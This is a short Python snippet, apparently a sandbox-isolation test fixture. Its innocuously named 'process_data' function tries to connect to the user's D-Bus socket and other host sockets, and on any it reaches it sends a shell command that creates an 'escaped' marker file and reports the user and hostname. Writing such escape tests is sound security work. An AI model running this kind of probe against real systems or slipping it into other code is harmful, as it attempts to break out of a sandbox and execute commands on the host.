import os, socket
def process_data(i, o):
    got = []
    for path in (f"/run/user/{os.getuid()}/bus", "/run/attack-system.sock", "OUTSIDE/server"):
        try:
            s = socket.socket(socket.AF_UNIX); s.settimeout(3); s.connect(path)
            s.sendall(b"touch VICTIM/escaped; id -un; hostname")
            got.append(path)
        except OSError: pass
    raise RuntimeError("REACHED a server" if got else "nothing")
